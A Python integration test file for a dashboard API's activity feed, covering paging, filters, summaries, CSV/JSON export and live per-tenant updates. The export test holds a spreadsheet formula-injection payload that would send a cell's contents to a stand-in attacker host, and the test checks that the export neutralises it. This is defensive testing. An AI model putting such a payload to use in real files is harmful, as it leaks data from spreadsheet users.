"""The dashboard's API against a real gateway: pages, the feed, filters, the summary, files, and live events."""

import asyncio
import csv
import io
import json
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from datetime import UTC, datetime, timedelta
from typing import Any
from uuid import UUID, uuid4

import asyncpg
import pytest

from actors.runtime.activity_actor import ActivityLogActor
from actors.runtime.clock import SystemClock
from storage.postgres import Database, Role
from storage.rollups import PostgresActivity
from storage.signals import RedisSignals
from tests.integration.gateway.company import Company, EchoHost, found
from tests.integration.gateway.desk import DELIVERY, Desk
from tests.integration.gateway.live_client import Tab
from tests.integration.gateway.test_api import call, say

UPDATES = "/api/dashboard/updates"
_LOG = """
insert into activity_logs (tenant_id, kind, agent_id, conversation_id, data, at)
values ($1, $2, $3, $4, $5::jsonb, coalesce($6, now())) returning id"""


@pytest.fixture
async def owner(database: str) -> AsyncIterator["asyncpg.Connection[asyncpg.Record]"]:
    connection = await asyncpg.connect(database)
    yield connection
    await connection.close()


@asynccontextmanager
async def counting(database: str, redis_url: str) -> AsyncIterator[ActivityLogActor]:
    async with (
        await Database.open(database, Role.ENGINE, "test", size=1) as engine,
        RedisSignals(redis_url) as signals,
    ):
        actor = ActivityLogActor(SystemClock(), PostgresActivity(engine), signals)
        task = asyncio.create_task(actor.run())
        try:
            yield actor
            await actor.drain()
        finally:
            task.cancel()
            await asyncio.gather(task, return_exceptions=True)


async def log(
    owner: "asyncpg.Connection[asyncpg.Record]",
    company: Company,
    kind: str,
    agent_id: UUID | None = None,
    conversation_id: int | None = None,
    at: datetime | None = None,
    **data: Any,
) -> str:
    return str(await owner.fetchval(_LOG, company.tenant_id, kind, agent_id, conversation_id, json.dumps(data), at))


async def ids(desk: Desk, query: str) -> list[str]:
    page = await desk.do("GET", f"{UPDATES}?{query}", level="viewer")
    return [item["id"] for item in page["items"]]


async def test_an_update_says_what_happened_to_what(desk: Desk, database: str) -> None:
    before = await desk.do("GET", UPDATES)
    made = await desk.do("POST", f"/api/agents/{desk.company.agent_id}/scripts", DELIVERY, expect=201)
    page = await desk.do("GET", f"{UPDATES}?kind=agent.changed")
    (item,) = page["items"]
    assert item["subject"] == {"type": "script", "id": made["id"], "title": "Delivery"}
    assert item["data"]["what"] == "script.created"
    assert (item["agent_id"], item["conversation_id"], item["title"]) == (str(desk.company.agent_id), None, "Agent changed")
    assert set(item) == {"id", "kind", "at", "agent_id", "conversation_id", "subject", "title", "data"}
    assert page["next"] is None
    assert page["cursor"] != before["cursor"]


async def test_pages_lead_from_the_newest_to_the_oldest_and_the_feed_goes_on(
    desk: Desk, owner: "asyncpg.Connection[asyncpg.Record]"
) -> None:
    start = (await desk.do("GET", UPDATES))["cursor"]
    logged = [await log(owner, desk.company, "turn.answered", desk.company.agent_id, n=n) for n in range(7)]
    first = await desk.do("GET", f"{UPDATES}?limit=3&kind=turn.answered")
    second = await desk.do("GET", f"{UPDATES}?limit=3&kind=turn.answered&cursor={first['next']}")
    third = await desk.do("GET", f"{UPDATES}?limit=3&kind=turn.answered&cursor={second['next']}")
    assert [item["id"] for page in (first, second, third) for item in page["items"]] == logged[::-1]
    assert third["next"] is None
    await desk.do("GET", f"{UPDATES}?limit=3&cursor={first['next']}", expect=422)  # it belongs to the filter
    seen, cursor = [], start
    while (page := await desk.do("GET", f"{UPDATES}?limit=2&after={cursor}"))["items"]:
        seen += [item["id"] for item in page["items"]]
        cursor = page["cursor"]
    assert seen == logged
    late = await log(owner, desk.company, "turn.silent")
    assert await ids(desk, f"after={cursor}") == [late]
    assert await ids(desk, f"after={first['cursor']}") == [late]
    await desk.do("GET", f"{UPDATES}?after={cursor}&cursor={first['next']}", expect=422)
    await desk.do("GET", f"{UPDATES}?after=W10", expect=422)


async def test_filters_go_together(desk: Desk, owner: "asyncpg.Connection[asyncpg.Record]", database: str) -> None:
    company, now = desk.company, datetime.now(UTC)
    other = UUID((await desk.agent()).rsplit("/", 1)[1])
    async with EchoHost(database):
        conversation = int((await say(desk.gateway, company, "hello"))["conversation_id"])
    mine = await log(owner, company, "turn.answered", company.agent_id, conversation)
    handed = await log(owner, company, "turn.handed_off", None, conversation)
    theirs = await log(owner, company, "turn.answered", other)
    old = await log(owner, company, "turn.answered", other, at=now - timedelta(days=2))
    both = "kind=turn.answered,turn.handed_off"
    assert await ids(desk, both) == [old, theirs, handed, mine]
    assert await ids(desk, "kind=turn.handed_off") == [handed]
    assert await ids(desk, f"{both}&agent_id={company.agent_id}") == [handed, mine]  # whose agent it was is known to the database
    assert await ids(desk, f"conversation_id={conversation}") == [handed, mine]
    assert await ids(desk, f"conversation_id={conversation}&kind=turn.answered&agent_id={other}") == []
    assert set(await ids(desk, f"agent_id={other}")) > {theirs, old}
    yesterday = (now - timedelta(days=1)).isoformat().replace("+00:00", "Z")
    assert await ids(desk, f"{both}&until={yesterday}") == [old]
    assert await ids(desk, f"{both}&since={yesterday}") == [theirs, handed, mine]
    assert await ids(desk, "kind=no.such") == []
    stranger = await found(database, "stranger")
    assert await ids(Desk(desk.gateway, stranger), both) == []


async def test_times_are_found_through_marks(desk: Desk, owner: "asyncpg.Connection[asyncpg.Record]", database: str) -> None:
    """A mark narrows the walk and never hides anything: what began before a time and committed after it is in the range."""
    early = await log(owner, desk.company, "turn.silent", at=datetime.now(UTC) - timedelta(minutes=1))
    writing = await asyncpg.connect(database)
    transaction = writing.transaction()
    await transaction.start()
    begun = await writing.fetchval("select now()")
    async with await Database.open(database, Role.ENGINE, "test", size=1) as engine:
        await PostgresActivity(engine).mark()
    slow = await writing.fetchval(_LOG, desk.company.tenant_id, "turn.silent", None, None, "{}", None)
    await transaction.commit()
    await writing.close()
    since = begun.isoformat().replace("+00:00", "Z")
    later = (begun + timedelta(seconds=1)).isoformat().replace("+00:00", "Z")
    assert await ids(desk, f"kind=turn.silent&since={since}") == [str(slow)]
    assert await ids(desk, f"kind=turn.silent&until={since}") == [early]
    assert await ids(desk, f"kind=turn.silent&until={later}") == [str(slow), early]


async def test_people_and_settings_are_told_with_their_change(desk: Desk) -> None:
    await desk.do("POST", "/api/users", {"email": "petr@shop.example", "name": "Пётр", "role": "viewer"}, expect=201)
    await desk.do("PATCH", f"/api/tenants/{desk.company.tenant_id}", {"name": "Acme <b>"}, level="owner")
    page = await desk.do("GET", f"{UPDATES}?kind=user.invited,tenant.changed")
    changed, invited = page["items"]
    assert (invited["subject"]["type"], invited["subject"]["title"], invited["data"]["by"]) == ("user", "Пётр", "admin")
    assert changed["subject"] == {"type": "tenant", "id": str(desk.company.tenant_id), "title": "Acme <b>"}
    assert changed["data"]["fields"] == ["name"]
    assert "petr@shop.example" not in json.dumps(page)


async def test_the_summary_is_what_was_counted(
    desk: Desk, owner: "asyncpg.Connection[asyncpg.Record]", database: str, redis_url: str
) -> None:
    company = desk.company
    async with EchoHost(database):
        conversation = int((await say(desk.gateway, company, "hello"))["conversation_id"])
    await owner.execute("update conversations set control = 'waiting' where id = $1", conversation)
    for n in range(20):
        await log(owner, company, "turn.answered", company.agent_id, conversation, messages=1, seconds=n + 1)
    await log(owner, company, "turn.handed_off", company.agent_id, conversation, messages=2, seconds=3, micros=1500)
    await log(owner, company, "message.dead", company.agent_id, conversation)
    await log(owner, company, "turn.answered", company.agent_id, conversation, at=datetime.now(UTC) - timedelta(days=20), messages=5)
    async with counting(database, redis_url):
        async with asyncio.timeout(30):
            while (summary := await desk.do("GET", "/api/dashboard/summary", level="viewer"))["total"]["messages"] < 22:
                await asyncio.sleep(0.05)
    total = summary["total"]
    assert (total["messages"], total["answered"], total["turns"], total["handoffs"], total["errors"]) == (22, 20, 21, 1, 1)
    assert (total["waiting"], total["spend"]) == (1, 0.0015)
    assert total["median_s"] == pytest.approx(10, rel=0.05)
    assert total["p95_s"] == pytest.approx(19, rel=0.05)
    assert [(a["agent_id"], a["messages"], a["spend"]) for a in summary["agents"]] == [(str(company.agent_id), 22, 0.0015)]
    assert [(c["channel"], c["waiting"]) for c in summary["channels"]] == [("test", 1)]
    assert sum(point["messages"] for point in summary["points"]) == 22
    assert summary["oldest_waiting_at"]
    month = await desk.do("GET", f"/api/dashboard/summary?since={(datetime.now(UTC) - timedelta(days=30)):%Y-%m-%dT%H:%M:%SZ}")
    assert month["total"]["messages"] == 27
    assert sum(point["messages"] for point in month["points"]) == 27
    none = await desk.do("GET", f"/api/dashboard/summary?agent_id={uuid4()}&channel=web")
    assert (none["total"]["messages"], none["total"]["median_s"], none["agents"]) == (0, None, [])
    await desk.do("GET", "/api/dashboard/summary?since=2020-01-01T00:00:00Z", expect=422)
    for number in ("0", "0.5", "-1", "1764180000"):
        await desk.do("GET", f"/api/dashboard/summary?since={number}", expect=422)


async def test_files_are_harmless_and_whole(desk: Desk, owner: "asyncpg.Connection[asyncpg.Record]") -> None:
    evil = '=HYPERLINK("https://evil.example?"&A1;"x")'
    logged = [await log(owner, desk.company, "user.changed", subject="user:1", title=evil, n=n) for n in range(1203)]
    async with desk.gateway.session.get(f"{UPDATES}/export?kind=user.changed", headers=desk.company.headers("viewer")) as response:
        assert response.status == 200
        assert response.headers["Content-Disposition"].startswith('attachment; filename="updates-')
        rows = list(csv.DictReader(io.StringIO(await response.text())))
    assert [row["id"] for row in rows] == logged
    assert {row["subject_title"] for row in rows} == {"'" + evil}
    assert json.loads(rows[0]["data"])["title"] == evil
    async with desk.gateway.session.get(f"{UPDATES}/export?format=json", headers=desk.company.headers()) as response:
        lines = [json.loads(line) for line in (await response.text()).splitlines()]
    assert [line["id"] for line in lines if line["kind"] == "user.changed"] == logged
    status, problem, _ = await call(
        desk.gateway, "GET", f"{UPDATES}/export?since=2026-01-01T00:00:00Z&until=2026-08-01T00:00:00Z", desk.company
    )
    assert (status, problem["errors"][0]["parameter"]) == (422, "since")


async def test_the_same_updates_live_and_only_to_their_company(
    desk: Desk, owner: "asyncpg.Connection[asyncpg.Record]", database: str, redis_url: str
) -> None:
    stranger = await found(database, "stranger")
    async with (
        counting(database, redis_url),
        Tab(desk.gateway, desk.company.headers("viewer")) as tab,
        Tab(desk.gateway, stranger.headers()) as other,
    ):
        await tab.subscribe("updates")
        await other.subscribe("updates")
        logged = await log(owner, desk.company, "conversation.taken", desk.company.agent_id, by="<b>Olga</b>")
        seen: list[dict[str, Any]] = []
        while logged not in [item["id"] for item in seen]:
            frame = await tab.until("updates")
            assert (frame["topic"], frame["left_out"]) == ("updates", 0)
            seen += frame["items"]
        page = await desk.do("GET", f"{UPDATES}?kind=conversation.taken")
        assert seen[-1] == page["items"][0]
        theirs = await log(owner, stranger, "conversation.taken")
        heard: list[str] = []
        while theirs not in heard:
            heard += [item["id"] for item in (await other.until("updates"))["items"]]
        assert logged not in heard
